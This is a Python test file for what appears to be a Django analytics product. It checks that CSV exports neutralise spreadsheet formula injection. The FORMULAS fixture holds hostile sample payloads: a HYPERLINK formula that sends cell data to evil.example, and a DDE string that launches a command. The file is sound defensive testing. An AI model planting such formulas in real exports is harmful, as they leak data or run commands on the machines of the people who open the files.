"""CSV injection: no CSV the product writes holds a cell a spreadsheet would run as a
formula (OWASP: text starting with =, +, -, @, tab or CR gets a leading '); numbers stay
numbers, negative ones included."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.test import Client

from consent.models import AccessExport
from dashboard.models import EventFateDaily
from personalization.models import Experiment, ExperimentSnapshot
from personalization.permissions import PRIVACY_OFFICERS
from tests.conftest import make_event
from tests.dashboard import test_dashboard_pages as pages
from tests.privacy import media_root, raw_id, request_made, run_work

rolled = pages.rolled  # a property with one known row in every rollup
viewer = pages.viewer  # an analyst of it, logged in

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def test_dashboard_csv__formula_texts__neutralised_and_counts_kept(rolled, viewer):
    # Given event types recorded under formulas (rows an older ingest wrote from what
    # storefronts sent), next to the fixture's page_view rows
    day = pages.RECENT.date()
    for n, formula in enumerate(FORMULAS):
        EventFateDaily.objects.create(
            property=rolled.prop, day=day, event_type=formula, fate="quarantined", count=n + 1
        )
    # When an analyst downloads the chart's rows
    rows = read_csv(viewer.get(pages.url("data-quality", format="csv", chart="fates")))
    # Then every formula comes as text behind a quote, and the counts as plain numbers
    by_type = {r["event_type"]: r["events"] for r in rows if r["event_type"] != "page_view"}
    assert by_type == {"'" + f: str(n + 1) for n, f in enumerate(FORMULAS)}
    assert {r["events"] for r in rows if r["event_type"] == "page_view"} == {"900", "30", "70"}


def test_dashboard_csv__negative_numbers_and_formula_label__numbers_kept_text_neutralised(
    rolled, viewer
):
    # Given a results snapshot whose variant losing 8% is labelled with a formula
    experiment = Experiment.objects.get(property=rolled.prop, key="headline-test")
    label = "=1+1"
    variant = {
        "variant": label,
        "users": 520,
        "rate": 0.184,
        "verdict": "worse",
        "lift": {"relative": -0.08, "ci_low": -0.13, "ci_high": -0.03},
        "p_value": 0.001,
        "p_value_adjusted": 0.002,
        "chance_to_win": 0.01,
    }
    at = pages.RECENT + timedelta(hours=1)
    ExperimentSnapshot.objects.create(
        experiment=experiment,
        computed_at=at,
        results={
            "snapshot_at": at.isoformat(),
            "srm_p_value": 0.5,
            "srm_flagged": False,
            "warnings": [],
            "goals": [{"key": "cta-click", "role": "primary", "variants": [variant]}],
        },
    )
    # When an analyst downloads the forest chart's rows
    url = pages.url("experiments", format="csv", chart="forest-headline-test")
    rows = read_csv(viewer.get(url))
    # Then the label is neutralised and the negative lifts are written as numbers
    assert [(r["variant"], r["lift"], r["lift_low"], r["lift_high"]) for r in rows] == [
        ("'=1+1", "-0.08", "-0.13", "-0.03")
    ]


@pytest.fixture
def media(settings, tmp_path):
    return media_root(settings, tmp_path)


def test_access_export_csv__visitor_chosen_ids__neutralised_in_the_archive(
    shop, staff, consent, media
):
    # Given a visitor whose id and session id (the storefront's to choose) are formulas
    vid = "=" + raw_id("HYPERLINK")
    consent(shop.prop, vid)
    event = make_event(visitor_id=vid, session_id="@SUM(1+1)", properties={"path": "/"})
    response = shop.client().post("/api/v1/events", {"events": [event]}, format="json")
    assert response.json()["accepted"] == 1
    officer = staff(PRIVACY_OFFICERS, shop.prop)
    req = run_work(request_made(shop, vid, "access", officer))
    # When their officer downloads the access archive
    client = Client()
    client.force_login(officer)
    export = AccessExport.objects.get(request=req)
    download = client.get(f"/privacy/exports/{export.token}/")
    assert download.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    events = list(csv.DictReader(io.StringIO(archive.read("personalization.events.csv").decode())))
    # Then the ids are written behind a quote in its CSV (the JSON keeps them as they are)
    assert [(r["visitor_id"], r["session_id"]) for r in events] == [("'" + vid, "'@SUM(1+1)")]
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)


def test_csv_cell__texts_numbers_and_others__only_texts_neutralised():
    from decimal import Decimal

    from consent.csv_safe import csv_cell

    # Given text, numbers and other values  When each is made a cell
    # Then only what is written as text starting like a formula gets the quote
    assert [csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [csv_cell(v) for v in ("page_view", "a=b", "", " =1")] == ["page_view", "a=b", "", " =1"]
    assert [csv_cell(v) for v in (-3, -0.5, Decimal("-1.5"), True, None)] == [
        -3,
        -0.5,
        Decimal("-1.5"),
        True,
        None,
    ]
    assert csv_cell(timedelta(days=-1)) == "'-1 day, 0:00:00"
